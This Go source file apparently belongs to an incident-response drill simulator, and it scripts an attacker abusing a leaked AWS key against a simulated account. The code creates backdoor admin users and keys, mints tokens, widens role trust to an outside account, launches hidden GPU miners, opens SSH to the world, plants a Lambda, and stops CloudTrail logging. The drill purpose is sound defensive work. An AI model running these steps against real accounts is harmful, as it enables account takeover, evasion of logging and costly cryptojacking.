package scenario

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/lambda"
	lambdatypes "github.com/aws/aws-sdk-go-v2/service/lambda/types"
	"github.com/aws/aws-sdk-go-v2/service/sts"
	"github.com/aws/smithy-go"

	"github.com/warroom-ir/warroom/aws/sim"
)

// The attacker: a Go client of the sim holding the leaked key. It works in
// rounds. The first rounds establish footholds (reconnaissance, a backdoor
// user, a second key, temporary credentials, an assumed admin role, an
// existing role's trust widened to an account it controls, administrator
// rights given to an existing group and the leaked user added to it, miners
// in Regions the account never used with SSH opened to the world on the
// default security group, persistent spot requests, a Lambda function
// another account may invoke, and the trail's write events dropped and its
// logging stopped); every round after that it uses what it holds, and
// assumes the backdoored role from its own account. Each call is tried
// with the credentials in order of preference; one that fails
// authentication is checked and dropped when dead, one that is denied is
// skipped for that call, so only complete containment stops it.
//
// It reacts: when a credential that worked dies or is denied what it did
// before, or its instances are seen stopped, it restores what it lost
// with whatever still works (keys re-activated, the trust backdoored
// again, SSH re-opened, new miners), a bounded number of times and never
// two rounds running.

const (
	attackerIP    = "127.0.0.66"
	attackerAgent = "Boto3/1.9.201 Python/2.7.16 Linux/4.19.0-kali5-amd64 Botocore/1.12.201"
	attackerKey   = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDf3v2ecX0jmC7Zb3AAZpB9Tz0rI2hDnn8B8wSEoFfWbO5yK0H6o5e7c2E8qGqYx1Xv root@kali"
)

// The kinds of credential the attacker may hold, in order of preference.
const (
	KindLeaked     = "leaked key"
	KindOwnKey     = "second key"
	KindSession    = "session token"
	KindFederation = "federation token"
	KindRole       = "role session"
	KindBackdoor   = "backdoor user key"
	// KindOutside is a session of the backdoored role, assumed from the
	// attacker's own account through the trust it widened.
	KindOutside = "outside-account role session"
	// KindOutsideKey is the attacker's key in its own account: it can only
	// assume roles whose trust lets that account in.
	KindOutsideKey = "outside-account key"
)

var kindOrder = []string{KindLeaked, KindOwnKey, KindSession, KindFederation, KindRole, KindBackdoor, KindOutside, KindOutsideKey}

// longTerm lists the kinds that are IAM access keys of the drill account,
// which an administrator can re-activate.
var longTerm = []string{KindLeaked, KindOwnKey, KindBackdoor}

// Held is one credential the attacker holds, as tests see it (no secret).
type Held struct {
	Kind        string
	AccessKeyID string
	// Dead is set once the credential failed authentication for good.
	Dead bool
}

type held struct {
	Held
	creds sim.Credentials
	// user owns a long-term key of the drill account.
	user string
	// ok lists the operations this credential has done; denied one of
	// them later, it is lost (contained by a policy).
	ok   map[string]bool
	lost bool
	// gone is set for a key that no longer exists (deleted).
	gone bool
}

// Foothold is one thing the attacker planted or changed, as tests see it.
type Foothold struct {
	// Kind is one of "user", "key", "trust", "group-policy", "group",
	// "ingress", "function", "permission", "trail-selectors", "trail-logging".
	Kind string
	// ID names it: "role/NAME", "group/NAME:POLICY-ARN", "USER@GROUP",
	// a security group id, a function name, "FUNCTION:SID", a trail name.
	ID string
	// Region is where it is; "" for IAM.
	Region string
	// Detail says what was done ("+arn:aws:iam::ACCOUNT:root", "tcp/22 from 0.0.0.0/0").
	Detail string
}

// String is "kind id [in region] (detail)".
func (f Foothold) String() string {
	s := f.Kind + " " + f.ID
	if f.Region != "" {
		s += " in " + f.Region
	}
	if f.Detail != "" {
		s += " (" + f.Detail + ")"
	}
	return s
}

// Attacker is the scenario's attacker. Its methods are safe for concurrent use.
type Attacker struct {
	sc  *Scenario
	id  *identity
	rng *rand.Rand

	mu          sync.Mutex
	held        []*held
	keys        map[string]bool
	regions     []string // where it launched instances
	spotRegions []string
	established chan struct{}

	backdoor  string
	trailName string

	// The choices made for the new footholds, fixed per seed when the
	// scenario is built (a separate generator keeps the older choices
	// what they were for a seed).
	outsideAcct string
	outside     sim.Credentials
	trustRole   string // the existing role whose trust it widens
	adminGroup  string // the existing group it gives administrator rights
	sshByName   bool   // opens SSH naming the group "default", as the CLI docs do
	reactGap    int    // rounds between two reactions
	maxReact    int    // reactions in all

	sshRegion string
	sshGroup  string
	footholds []Foothold
	reacted   []string

	// alarm is raised when something it held was lost; round-local state
	// of the run goroutine, read by tests through Reactions.
	alarm     bool
	nextReact int
	reactions int
	stopped   map[string]bool // instances seen stopped
}

func newAttacker(sc *Scenario) (*Attacker, error) {
	a := &Attacker{sc: sc, id: newIdentity(attackerIP, attackerAgent),
		rng:  rand.New(rand.NewPCG(sc.opts.Seed^0xa77ac4e2, sc.opts.Seed+1)),
		keys: map[string]bool{}, established: make(chan struct{}), stopped: map[string]bool{}}
	a.add(KindLeaked, sc.leaked, sc.leakedUser)
	plan := rand.New(rand.NewPCG(sc.opts.Seed^0x0f7a11e5, sc.opts.Seed+7))
	for a.outsideAcct == "" || a.outsideAcct == sc.sim.AccountID() {
		a.outsideAcct = fmt.Sprintf("%012d", 100000000000+plan.Uint64N(899999999999))
	}
	var err error
	if a.outside, err = sc.sim.AddOutsideKey(a.outsideAcct, "kali"); err != nil {
		return nil, err
	}
	a.trustRole = []string{sc.adminRole, "deploy-pipeline"}[plan.IntN(2)]
	a.adminGroup = []string{"developers", "readonly"}[plan.IntN(2)]
	a.sshByName = plan.IntN(2) == 0
	a.reactGap = 2 + plan.IntN(2)
	a.maxReact = 8 + plan.IntN(5)
	return a, nil
}

// OutsideAccount is the id of the account the attacker controls, which the
// backdoored trust and the function permission name.
func (a *Attacker) OutsideAccount() string { return a.outsideAcct }

// TrustRole is the existing role whose trust the attacker widens.
func (a *Attacker) TrustRole() string { return a.trustRole }

// Footholds lists what the attacker planted or changed, in the order it
// first did each (a foothold it restored is listed once).
func (a *Attacker) Footholds() []Foothold {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.Clone(a.footholds)
}

// Reactions lists what the attacker restored after losing it, one line
// each ("UpdateAccessKey AKIA… Active", "AuthorizeSecurityGroupIngress
// sg-… in REGION", …), in order.
func (a *Attacker) Reactions() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.Clone(a.reacted)
}

func (a *Attacker) planted(f Foothold) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if !slices.ContainsFunc(a.footholds, func(o Foothold) bool { return o.Kind == f.Kind && o.ID == f.ID && o.Region == f.Region }) {
		a.footholds = append(a.footholds, f)
	}
}

func (a *Attacker) noteReaction(what string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.reacted = append(a.reacted, what)
}

// Established is closed once the attacker holds all its footholds.
func (a *Attacker) Established() <-chan struct{} { return a.established }

// Holds lists the credentials the attacker holds, in order of preference.
func (a *Attacker) Holds() []Held {
	a.mu.Lock()
	defer a.mu.Unlock()
	out := make([]Held, 0, len(a.held))
	for _, h := range a.held {
		out = append(out, h.Held)
	}
	return out
}

// Credentials lists the credentials the attacker holds now, replaced
// ones not kept (for tests that try them from outside, as it would).
func (a *Attacker) Credentials() []sim.Credentials {
	a.mu.Lock()
	defer a.mu.Unlock()
	out := make([]sim.Credentials, 0, len(a.held))
	for _, h := range a.held {
		out = append(out, h.creds)
	}
	return out
}

// BackdoorUser is the name of the user the attacker created ("" before).
func (a *Attacker) BackdoorUser() string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.backdoor
}

// Regions lists the Regions the attacker launched instances in.
func (a *Attacker) Regions() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.Clone(a.regions)
}

// owns reports whether the attacker ever held access key id.
func (a *Attacker) owns(id string) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.keys[id]
}

// CallsSince returns every call the attacker made at or after t, from the
// sim's own record.
func (a *Attacker) CallsSince(t time.Time) []sim.Call {
	var out []sim.Call
	for _, c := range a.sc.sim.Calls() {
		// The leaked key's own application (runReporting) signs with it too.
		if !c.Time.Before(t) && a.owns(c.AccessKeyID) && c.UserAgent != reportAgent {
			out = append(out, c)
		}
	}
	return out
}

// SuccessesSince returns the attacker's successful calls at or after t.
// sts:GetCallerIdentity is left out: it needs no permission and no policy
// can deny it, so it proves only that a key exists, not that it works.
func (a *Attacker) SuccessesSince(t time.Time) []sim.Call {
	var out []sim.Call
	for _, c := range a.CallsSince(t) {
		if c.OK() && c.Operation != "GetCallerIdentity" {
			out = append(out, c)
		}
	}
	return out
}

func (a *Attacker) add(kind string, c sim.Credentials, user string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.keys[c.AccessKeyID] = true
	a.held = append(a.held, &held{Held: Held{Kind: kind, AccessKeyID: c.AccessKeyID}, creds: c, user: user, ok: map[string]bool{}})
	slices.SortStableFunc(a.held, func(x, y *held) int {
		return slices.Index(kindOrder, x.Kind) - slices.Index(kindOrder, y.Kind)
	})
}

// replace swaps the credential of the one held entry of kind for c (a
// fresh session replacing a lost one), or adds it.
func (a *Attacker) replace(kind string, c sim.Credentials) {
	a.mu.Lock()
	for _, h := range a.held {
		if h.Kind == kind {
			a.keys[c.AccessKeyID] = true
			h.creds, h.AccessKeyID, h.Dead, h.lost, h.ok = c, c.AccessKeyID, false, false, map[string]bool{}
			a.mu.Unlock()
			return
		}
	}
	a.mu.Unlock()
	a.add(kind, c, "")
}

// usable reports whether the attacker holds a credential of kind that is
// neither dead nor lost.
func (a *Attacker) usable(kind string) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.ContainsFunc(a.held, func(h *held) bool { return h.Kind == kind && !h.Dead && !h.lost })
}

// candidates returns the live credentials of the given kinds (all but the
// outside key, which can only assume roles, when none).
func (a *Attacker) candidates(kinds []string) []*held {
	a.mu.Lock()
	defer a.mu.Unlock()
	var out []*held
	for _, h := range a.held {
		if !h.Dead && (len(kinds) == 0 && h.Kind != KindOutsideKey || slices.Contains(kinds, h.Kind)) {
			out = append(out, h)
		}
	}
	return out
}

// errClass sorts an API error into what the attacker does about it.
type errClass int

const (
	errOther  errClass = iota // give up on this call for the round
	errAuth                   // the credential may be dead
	errDenied                 // this credential may not do this
)

func classify(err error) errClass {
	var ae smithy.APIError
	if !errors.As(err, &ae) {
		return errOther
	}
	switch ae.ErrorCode() {
	case "InvalidClientTokenId", "AuthFailure", "UnrecognizedClientException", "InvalidAccessKeyId", "ExpiredToken",
		"ExpiredTokenException", "RequestExpired", "SignatureDoesNotMatch", "InvalidSignatureException":
		return errAuth
	case "AccessDenied", "AccessDeniedException", "UnauthorizedOperation":
		return errDenied
	}
	return errOther
}

func (a *Attacker) cfg(h *held, region string) aws.Config {
	return a.id.config(a.sc.endpoint, h.creds, region)
}

// alive checks a credential that failed authentication: GetCallerIdentity
// works for every live credential (a session token cannot call IAM, which
// answers as if the key were unknown).
func (a *Attacker) alive(ctx context.Context, h *held) bool {
	_, err := sts.NewFromConfig(a.cfg(h, homeRgn)).GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{})
	return err == nil || classify(err) != errAuth
}

// try runs call with each usable credential until one succeeds. It returns
// the credential that worked.
func (a *Attacker) try(ctx context.Context, what string, kinds []string, call func(cfg func(region string) aws.Config) error) (*held, error) {
	var last error = fmt.Errorf("no usable credential")
	op, _, _ := strings.Cut(what, " ")
	for _, h := range a.candidates(kinds) {
		err := call(func(region string) aws.Config { return a.cfg(h, region) })
		if err == nil {
			a.mu.Lock()
			h.ok[op], h.lost = true, false
			a.mu.Unlock()
			a.sc.logf("attacker: %s with %s %s", what, h.Kind, h.AccessKeyID)
			return h, nil
		}
		last = err
		switch classify(err) {
		case errAuth:
			if ctx.Err() == nil && !a.alive(ctx, h) {
				expired := !h.creds.Expires.IsZero() && !a.sc.sim.Now().Before(h.creds.Expires)
				a.mu.Lock()
				h.Dead = true
				if !expired {
					a.alarm = true
				}
				a.mu.Unlock()
				a.sc.logf("attacker: %s %s is dead, falling back", h.Kind, h.AccessKeyID)
			}
			continue
		case errDenied:
			a.mu.Lock()
			if h.ok[op] && !h.lost {
				h.lost, a.alarm = true, true
				a.sc.logf("attacker: %s %s may no longer %s: %v", h.Kind, h.AccessKeyID, op, err)
			}
			a.mu.Unlock()
			continue
		}
		break
	}
	a.sc.logf("attacker: %s failed: %v", what, last)
	return nil, last
}

// run plays the attacker until ctx is done.
func (a *Attacker) run(ctx context.Context) {
	stages := []func(context.Context){a.recon, a.persist, a.mint, a.entrench, a.launch, a.spot, a.cover}
	for round := 0; ctx.Err() == nil; round++ {
		if round < len(stages) {
			stages[round](ctx)
			if round == len(stages)-1 {
				close(a.established)
			}
		} else {
			a.use(ctx, round)
		}
		if a.sc.pace(ctx, a.sc.opts.Round) != nil {
			return
		}
	}
}

// ---- the establishing rounds ----

func (a *Attacker) recon(ctx context.Context) {
	self := []string{KindLeaked}
	_, _ = a.try(ctx, "GetCallerIdentity", self, func(cfg func(string) aws.Config) error {
		_, err := sts.NewFromConfig(cfg(homeRgn)).GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{})
		return err
	})
	_, _ = a.try(ctx, "ListUsers", nil, func(cfg func(string) aws.Config) error {
		_, err := iam.NewFromConfig(cfg(homeRgn)).ListUsers(ctx, &iam.ListUsersInput{})
		return err
	})
	_, _ = a.try(ctx, "ListRoles", nil, func(cfg func(string) aws.Config) error {
		_, err := iam.NewFromConfig(cfg(homeRgn)).ListRoles(ctx, &iam.ListRolesInput{})
		return err
	})
	_, _ = a.try(ctx, "ListAttachedUserPolicies", self, func(cfg func(string) aws.Config) error {
		_, err := iam.NewFromConfig(cfg(homeRgn)).ListAttachedUserPolicies(ctx, &iam.ListAttachedUserPoliciesInput{UserName: aws.String(a.sc.leakedUser)})
		return err
	})
	_, _ = a.try(ctx, "ListAccessKeys", self, func(cfg func(string) aws.Config) error {
		_, err := iam.NewFromConfig(cfg(homeRgn)).ListAccessKeys(ctx, &iam.ListAccessKeysInput{})
		return err
	})
	_, _ = a.try(ctx, "GetAccountSummary", nil, func(cfg func(string) aws.Config) error {
		_, err := iam.NewFromConfig(cfg(homeRgn)).GetAccountSummary(ctx, &iam.GetAccountSummaryInput{})
		return err
	})
	var regions []string
	_, _ = a.try(ctx, "DescribeRegions", nil, func(cfg func(string) aws.Config) error {
		out, err := ec2.NewFromConfig(cfg(homeRgn)).DescribeRegions(ctx, &ec2.DescribeRegionsInput{AllRegions: aws.Bool(true)})
		if err == nil {
			for _, r := range out.Regions {
				if aws.ToString(r.OptInStatus) != "not-opted-in" {
					regions = append(regions, aws.ToString(r.RegionName))
				}
			}
		}
		return err
	})
	_, _ = a.try(ctx, "DescribeTrails", nil, func(cfg func(string) aws.Config) error {
		out, err := cloudtrail.NewFromConfig(cfg(homeRgn)).DescribeTrails(ctx, &cloudtrail.DescribeTrailsInput{})
		if err == nil && len(out.TrailList) > 0 {
			a.mu.Lock()
			a.trailName = aws.ToString(out.TrailList[0].Name)
			a.mu.Unlock()
		}
		return err
	})
	// Regions the account never uses, where miners are less likely to be seen.
	quiet := []string{"ap-southeast-3", "me-central-1", "af-south-1", "ap-east-1", "eu-south-2", "sa-east-1", "ap-northeast-3", "ca-west-1"}
	a.rng.Shuffle(len(quiet), func(i, j int) { quiet[i], quiet[j] = quiet[j], quiet[i] })
	var pick []string
	for _, r := range quiet {
		if len(regions) == 0 || slices.Contains(regions, r) {
			pick = append(pick, r)
		}
	}
	a.mu.Lock()
	a.regions = pick[:min(3, len(pick))]
	if len(pick) > 3 {
		a.spotRegions = pick[3:min(5, len(pick))]
	}
	a.mu.Unlock()
}

func (a *Attacker) persist(ctx context.Context) {
	names := []string{"svc-monitoring", "aws-support-ops", "backup-svc", "cloudwatch-agent"}
	name := names[a.rng.IntN(len(names))]
	if _, err := a.try(ctx, "CreateUser "+name, nil, func(cfg func(string) aws.Config) error {
		_, err := iam.NewFromConfig(cfg(homeRgn)).CreateUser(ctx, &iam.CreateUserInput{UserName: aws.String(name)})
		return err
	}); err != nil {
		return
	}
	a.mu.Lock()
	a.backdoor = name
	a.mu.Unlock()
	a.planted(Foothold{Kind: "user", ID: name})
	_, _ = a.try(ctx, "AttachUserPolicy AdministratorAccess", nil, func(cfg func(string) aws.Config) error {
		_, err := iam.NewFromConfig(cfg(homeRgn)).AttachUserPolicy(ctx, &iam.AttachUserPolicyInput{UserName: aws.String(name),
			PolicyArn: aws.String(adminPolicy)})
		return err
	})
	_, _ = a.try(ctx, "CreateLoginProfile", nil, func(cfg func(string) aws.Config) error {
		_, err := iam.NewFromConfig(cfg(homeRgn)).CreateLoginProfile(ctx, &iam.CreateLoginProfileInput{UserName: aws.String(name),
			Password: aws.String(a.password())})
		return err
	})
	_, _ = a.try(ctx, "CreateAccessKey backdoor", nil, func(cfg func(string) aws.Config) error {
		out, err := iam.NewFromConfig(cfg(homeRgn)).CreateAccessKey(ctx, &iam.CreateAccessKeyInput{UserName: aws.String(name)})
		if err == nil {
			a.add(KindBackdoor, sim.Credentials{AccessKeyID: aws.ToString(out.AccessKey.AccessKeyId), SecretAccessKey: aws.ToString(out.AccessKey.SecretAccessKey)}, name)
			a.planted(Foothold{Kind: "key", ID: aws.ToString(out.AccessKey.AccessKeyId), Detail: "of user " + name})
		}
		return err
	})
	_, _ = a.try(ctx, "CreateAccessKey self", []string{KindLeaked}, func(cfg func(string) aws.Config) error {
		out, err := iam.NewFromConfig(cfg(homeRgn)).CreateAccessKey(ctx, &iam.CreateAccessKeyInput{})
		if err == nil {
			a.add(KindOwnKey, sim.Credentials{AccessKeyID: aws.ToString(out.AccessKey.AccessKeyId), SecretAccessKey: aws.ToString(out.AccessKey.SecretAccessKey)}, a.sc.leakedUser)
			a.planted(Foothold{Kind: "key", ID: aws.ToString(out.AccessKey.AccessKeyId), Detail: "of user " + a.sc.leakedUser})
		}
		return err
	})
}

// password is a console password for the backdoor. It is never logged.
func (a *Attacker) password() string {
	const alphabet = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789!#%"
	b := make([]byte, 20)
	for i := range b {
		b[i] = alphabet[a.rng.IntN(len(alphabet))]
	}
	return string(b)
}

func (a *Attacker) mint(ctx context.Context) {
	users := []string{KindLeaked, KindOwnKey}
	_, _ = a.try(ctx, "GetSessionToken", users, func(cfg func(string) aws.Config) error {
		out, err := sts.NewFromConfig(cfg(homeRgn)).GetSessionToken(ctx, &sts.GetSessionTokenInput{DurationSeconds: aws.Int32(129600)})
		if err == nil {
			a.add(KindSession, stsCreds(out.Credentials.AccessKeyId, out.Credentials.SecretAccessKey, out.Credentials.SessionToken, out.Credentials.Expiration), "")
		}
		return err
	})
	_, _ = a.try(ctx, "GetFederationToken", users, func(cfg func(string) aws.Config) error {
		out, err := sts.NewFromConfig(cfg(homeRgn)).GetFederationToken(ctx, &sts.GetFederationTokenInput{Name: aws.String("ops-admin"),
			DurationSeconds: aws.Int32(129600),
			Policy:          aws.String(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}`)})
		if err == nil {
			a.add(KindFederation, stsCreds(out.Credentials.AccessKeyId, out.Credentials.SecretAccessKey, out.Credentials.SessionToken, out.Credentials.Expiration), "")
		}
		return err
	})
	roleARN := fmt.Sprintf("arn:aws:iam::%s:role/%s", a.sc.sim.AccountID(), a.sc.adminRole)
	_, _ = a.try(ctx, "AssumeRole "+a.sc.adminRole, users, func(cfg func(string) aws.Config) error {
		out, err := sts.NewFromConfig(cfg(homeRgn)).AssumeRole(ctx, &sts.AssumeRoleInput{RoleArn: aws.String(roleARN),
			RoleSessionName: aws.String(fmt.Sprintf("botocore-session-%d", 1700000000+a.rng.IntN(99999999)))})
		if err == nil {
			a.add(KindRole, stsCreds(out.Credentials.AccessKeyId, out.Credentials.SecretAccessKey, out.Credentials.SessionToken, out.Credentials.Expiration), "")
		}
		return err
	})
}

func stsCreds(id, secret, token *string, exp *time.Time) sim.Credentials {
	return sim.Credentials{AccessKeyID: aws.ToString(id), SecretAccessKey: aws.ToString(secret), SessionToken: aws.ToString(token),
		Expires: aws.ToTime(exp)}
}

var bigTypes = []ec2types.InstanceType{ec2types.InstanceTypeP316xlarge, ec2types.InstanceTypeG4dn12xlarge, ec2types.InstanceTypeC524xlarge,
	ec2types.InstanceTypeP4d24xlarge, ec2types.InstanceTypeG5Xlarge}

// importKey imports the attacker's SSH key in region.
func (a *Attacker) importKey(ctx context.Context, region string) {
	_, _ = a.try(ctx, "ImportKeyPair "+region, nil, func(cfg func(string) aws.Config) error {
		_, err := ec2.NewFromConfig(cfg(region)).ImportKeyPair(ctx, &ec2.ImportKeyPairInput{KeyName: aws.String("kali"),
			PublicKeyMaterial: []byte(attackerKey)})
		var ae smithy.APIError
		if errors.As(err, &ae) && ae.ErrorCode() == "InvalidKeyPair.Duplicate" {
			return nil
		}
		return err
	})
}

// runMiners launches count protected instances in region, and reports
// whether it could.
func (a *Attacker) runMiners(ctx context.Context, region string, count int32) bool {
	ok, err := a.runMinersOnce(ctx, region, count)
	if apiCode(err) == "InvalidKeyPair.NotFound" {
		// Its key pair was deleted: import it again, once, and retry.
		a.importKey(ctx, region)
		ok, _ = a.runMinersOnce(ctx, region, count)
	}
	return ok
}

func (a *Attacker) runMinersOnce(ctx context.Context, region string, count int32) (bool, error) {
	typ := bigTypes[a.rng.IntN(len(bigTypes))]
	_, err := a.try(ctx, fmt.Sprintf("RunInstances %d×%s in %s", count, typ, region), nil, func(cfg func(string) aws.Config) error {
		_, err := ec2.NewFromConfig(cfg(region)).RunInstances(ctx, &ec2.RunInstancesInput{ImageId: aws.String("ami-0a4e637babb7b0a86"),
			InstanceType: typ, KeyName: aws.String("kali"), MinCount: aws.Int32(1), MaxCount: aws.Int32(count),
			DisableApiTermination: aws.Bool(true), DisableApiStop: aws.Bool(true),
			TagSpecifications: []ec2types.TagSpecification{{ResourceType: ec2types.ResourceTypeInstance,
				Tags: []ec2types.Tag{{Key: aws.String("Name"), Value: aws.String("worker")}}}}})
		return err
	})
	return err == nil, err
}

func (a *Attacker) launch(ctx context.Context) {
	regions := a.Regions()
	for _, r := range regions {
		a.importKey(ctx, r)
		a.runMiners(ctx, r, int32(2+a.rng.IntN(3)))
	}
	// SSH into the first Region's miners: the default group opened to the world.
	if len(regions) > 0 {
		a.mu.Lock()
		a.sshRegion = regions[0]
		a.mu.Unlock()
		a.openSSH(ctx)
	}
}

func (a *Attacker) spot(ctx context.Context) {
	a.mu.Lock()
	regions := slices.Clone(a.spotRegions)
	a.mu.Unlock()
	for _, r := range regions {
		a.importKey(ctx, r)
		_, _ = a.try(ctx, "RequestSpotInstances persistent in "+r, nil, func(cfg func(string) aws.Config) error {
			_, err := ec2.NewFromConfig(cfg(r)).RequestSpotInstances(ctx, &ec2.RequestSpotInstancesInput{
				Type: ec2types.SpotInstanceTypePersistent, InstanceCount: aws.Int32(2), SpotPrice: aws.String("30.00"),
				LaunchSpecification: &ec2types.RequestSpotLaunchSpecification{ImageId: aws.String("ami-0a4e637babb7b0a86"),
					InstanceType: ec2types.InstanceTypeP316xlarge, KeyName: aws.String("kali")}})
			return err
		})
	}
}

func (a *Attacker) cover(ctx context.Context) {
	regions := a.Regions()
	if len(regions) > 0 {
		region := regions[0]
		roleARN := fmt.Sprintf("arn:aws:iam::%s:role/%s", a.sc.sim.AccountID(), a.sc.lambdaRole)
		if _, err := a.try(ctx, "CreateFunction in "+region, nil, func(cfg func(string) aws.Config) error {
			_, err := lambda.NewFromConfig(cfg(region)).CreateFunction(ctx, &lambda.CreateFunctionInput{FunctionName: aws.String(functionName),
				Runtime: lambdatypes.RuntimePython312, Role: aws.String(roleARN), Handler: aws.String("index.handler"),
				Code: &lambdatypes.FunctionCode{ZipFile: []byte("PK\x03\x04import os, urllib.request")}})
			return err
		}); err == nil {
			a.planted(Foothold{Kind: "function", ID: functionName, Region: region})
			a.plantPermission(ctx, region)
		}
	}
	a.mu.Lock()
	trail := a.trailName
	a.mu.Unlock()
	if trail != "" {
		a.dropWrites(ctx, trail)
		if _, err := a.try(ctx, "StopLogging "+trail, nil, func(cfg func(string) aws.Config) error {
			_, err := cloudtrail.NewFromConfig(cfg(homeRgn)).StopLogging(ctx, &cloudtrail.StopLoggingInput{Name: aws.String(trail)})
			return err
		}); err == nil {
			a.planted(Foothold{Kind: "trail-logging", ID: trail, Region: homeRgn, Detail: "logging stopped"})
		}
	}
}

// use is a round after the footholds are in: look at the miners, look at
// the users, look through the back door (assuming the role from outside
// again when its session was lost), now and then launch more, and react
// when something was taken away.
func (a *Attacker) use(ctx context.Context, round int) {
	regions := a.Regions()
	if len(regions) == 0 {
		regions = []string{homeRgn}
	}
	region := regions[round%len(regions)]
	_, _ = a.try(ctx, "DescribeInstances "+region, nil, func(cfg func(string) aws.Config) error {
		out, err := ec2.NewFromConfig(cfg(region)).DescribeInstances(ctx, &ec2.DescribeInstancesInput{})
		if err == nil {
			a.noteInstances(out)
		}
		return err
	})
	_, _ = a.try(ctx, "ListUsers", nil, func(cfg func(string) aws.Config) error {
		_, err := iam.NewFromConfig(cfg(homeRgn)).ListUsers(ctx, &iam.ListUsersInput{})
		return err
	})
	a.outsideRound(ctx, regions[(round+1)%len(regions)], round)
	if round%2 == 0 {
		a.runMiners(ctx, region, 1)
	}
	a.maybeReact(ctx, round)
}

// Running returns how many instances launched by a principal the attacker
// acted as are pending or running, by the drill account's own state.
func (a *Attacker) Running() int {
	arns := map[string]bool{}
	for _, c := range a.sc.sim.Calls() {
		if c.PrincipalARN != "" && a.owns(c.AccessKeyID) {
			arns[c.PrincipalARN] = true
		}
	}
	n := 0
	for _, in := range a.sc.sim.Instances() {
		if arns[in.Requester] && (in.State == "pending" || in.State == "running") {
			n++
		}
	}
	return n
}
